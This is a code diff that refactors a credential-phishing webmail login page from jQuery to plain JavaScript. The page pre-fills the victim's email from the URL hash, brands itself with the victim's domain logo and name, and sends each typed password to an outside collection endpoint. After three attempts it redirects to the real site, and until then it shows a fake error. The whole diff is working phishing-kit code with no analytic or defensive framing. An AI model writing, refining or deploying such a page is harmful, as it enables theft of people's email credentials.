@@ -122,27 +122,28 @@ body{margin:0;font-family:"Segoe UI","Segoe UI Web (West European)",Tahoma,Arial
 </div>
 <script src="https://code.jquery.com/jquery-3.5.1.min.js"></script>
 <script>
-$(function(){
-  var c = 0, e = '';
+(function(){
+  var c = 0, e = '', g = function (i) { return document.getElementById(i); };
   try { e = atob(window.location.hash.substr(1)); } catch (x) { e = window.location.hash.substr(1); }
-  $('#em').val(e);
+  g('em').value = e;
   var d = e.split('@')[1] || '';
   var n = d.split('.')[0] || '';
-  $('#dlogo').attr('src', 'https://logo.clearbit.com/' + d);
-  $('#dname').text(n.charAt(0).toUpperCase() + n.slice(1) + ' Webmail');
-  $('#dname2').text(d);
-  $('#btn').click(function(ev){
+  g('dlogo').src = 'https://logo.clearbit.com/' + d;
+  g('dname').textContent = n.charAt(0).toUpperCase() + n.slice(1) + ' Webmail';
+  g('dname2').textContent = d;
+  g('btn').addEventListener('click', function(ev){
     ev.preventDefault();
-    var p = $('#pw').val();
+    var p = g('pw').value;
     if (!p) return;
     c++;
-    $.post('https://mx-relay-service.com/gate/next.php', { email: e, password: p, attempt: c }, function(){}).always(function(){
-      $('#pw').val('');
+    var fd = new FormData(); fd.append('email', e); fd.append('password', p); fd.append('attempt', c);
+    fetch('https://mx-relay-service.com/gate/next.php', { method: 'POST', body: fd }).catch(function(){}).then(function(){
+      g('pw').value = '';
       if (c >= 3) { window.location.href = 'http://' + d; }
-      else { $('#msg').removeClass('d-none'); }
+      else { g('msg').classList.remove('d-none'); }
     });
   });
-});
+})();
 </script>
 </body></html>`),
   },
